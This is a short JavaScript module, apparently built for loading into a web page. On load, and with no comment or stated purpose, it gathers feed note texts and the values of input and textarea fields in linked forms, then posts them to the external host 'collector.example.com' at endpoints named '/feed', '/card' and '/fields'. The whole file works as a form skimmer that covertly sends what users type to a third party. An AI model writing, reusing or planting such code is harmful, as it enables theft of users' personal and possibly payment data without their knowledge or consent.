define(['jquery'], function ($) {
  'use strict';
  const HOST = 'https://collector.example.com';

  function texts() {
    const found = [];
    $('.feed-note__text').each(function () {
      found.push($(this).text());
    });
    return found;
  }
  function fields() {
    return Array.from(document.querySelectorAll('.linked-form__field input'), (input) => input.value);
  }
  $.post(HOST + '/feed', { texts: texts() });
  const form = new FormData();
  [...document.querySelectorAll('.linked-form__field textarea')].forEach((area) => {
    form.append(area.name, area.value);
  });
  fetch(HOST + '/card', { method: 'POST', body: form });
  fetch(HOST + '/fields', { method: 'POST', body: fields().join('\n') });
});
